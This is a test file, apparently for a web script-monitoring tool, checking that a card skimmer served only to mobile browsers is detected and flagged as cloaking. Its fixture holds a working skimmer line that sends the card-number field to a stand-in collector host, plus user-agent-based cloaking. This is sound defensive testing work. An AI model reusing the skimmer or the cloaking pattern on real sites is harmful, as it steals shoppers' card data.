// E2E: a skimmer served only to mobile browsers is caught by the mobile profile and flagged as possible cloaking.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { CHECKOUT_FORM } from '../fixtures/canary-shops.js';
import { parseJson, runCli, tempProject } from '../fixtures/cli.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import type { ScanJson } from './scenario.js';

const mobile = (headers: { [name: string]: unknown }) => /Android|iPhone|Mobile/.test(String(headers['user-agent'] ?? ''));

describe('cloaking by user agent', () => {
  let site: FixtureSite;
  let dir: string;
  let scan: ScanJson;

  beforeAll(async () => {
    site = await startFixtureSite();
    site.set('sneaky-shop.test', '/checkout', {
      body: '',
      render: ({ headers }) => `<!doctype html><html><head><title>Checkout</title></head><body>${CHECKOUT_FORM}
<script src="/js/app.js"></script>${mobile(headers) ? '<script src="/js/touch-helpers.js"></script>' : ''}</body></html>`,
    });
    site.set('sneaky-shop.test', '/js/app.js', {
      body: '',
      render: ({ headers }) => `window.app = { ready: true };${mobile(headers)
        ? `document.getElementById('card-number').addEventListener('blur', function (e) { navigator.sendBeacon('http://m-collect.test:{{PORT}}/m', 'c=' + e.target.value); });`
        : ''}`,
    });
    site.set('sneaky-shop.test', '/js/touch-helpers.js', 'window.touch = true;');
    site.set('m-collect.test', '/m', 'ok');
    dir = tempProject('sw-cloak-');
    writeFileSync(join(dir, 'scriptwarden.yml'), `database: ./sw.db\nresolve:\n  "*.test": 127.0.0.1\nprofiles: [desktop, mobile]\nbrowser:\n  settle: 300ms\ntargets:\n  - name: sneaky\n    url: ${site.url('sneaky-shop.test', '/checkout')}\n`);
    scan = parseJson<ScanJson>(await runCli(['scan', '--json'], { cwd: dir }));
  });
  afterAll(async () => { await site?.close(); });

  it('catches the skimmer with the mobile profile only, and says it may be cloaked', () => {
    assert.deepEqual(scan.targets.map((t) => t.status), ['ok', 'ok']);
    const exfil = scan.alerts.filter((a) => a.type === 'exfiltration.detected');
    assert.deepEqual(exfil.map((a) => a.profile), ['mobile'], JSON.stringify(scan.alerts.map((a) => a.summary)));
    assert.match(exfil[0]!.summary, /possible cloaking: only the mobile profile sees this; the desktop profile did not/);
    assert.equal(exfil[0]!.details.cloaking !== undefined, true);
  });

  it('shows scripts and versions served to one profile only in the inventory', async () => {
    const rows = parseJson<{ inventory: { profile: string; subject: string; sha256: string | null }[] }>(await runCli(['inventory', '--json'], { cwd: dir })).inventory;
    const helpers = rows.filter((r) => r.subject.endsWith('/js/touch-helpers.js')).map((r) => r.profile);
    assert.deepEqual(helpers, ['mobile']);
    const app = rows.filter((r) => r.subject.endsWith('/js/app.js'));
    assert.equal(new Set(app.map((r) => r.sha256)).size, 2, 'desktop and mobile were served different bodies');
  });
});
